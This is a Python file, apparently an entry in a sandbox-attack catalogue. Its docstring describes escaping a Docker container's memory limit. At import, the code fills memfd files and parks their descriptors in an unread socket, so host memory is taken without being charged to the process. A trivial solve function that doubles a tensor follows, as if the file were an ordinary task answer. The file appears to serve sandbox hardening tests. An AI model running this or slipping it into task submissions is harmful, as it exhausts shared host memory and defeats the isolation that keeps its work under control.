"""Takes memory that is charged to no process.

Mechanism: writes to memfd files, and sends their descriptors into a socket that nobody reads before closing
  them: the pages then belong to an undelivered message.
Surface: memory that a count per process misses.
Gain: the host's memory, past the box's limit.
Challenge: twice
Defence: memory_limit
Box: docker
"""

import array
import os
import socket

PIECE, WANTED = 1 << 26, 1 << 35
left, right = socket.socketpair()
left.setblocking(False)
taken = 0
while taken < WANTED:
    held = os.memfd_create("hostile")
    os.ftruncate(held, PIECE)
    for _ in range(64):
        os.write(held, b"x" * (PIECE // 64))
    try:
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [held]))])
        os.close(held)
    except OSError:
        left, right = socket.socketpair()
        left.setblocking(False)
    taken += PIECE


def solve(x, out, n):
    out.copy_(2 * x)
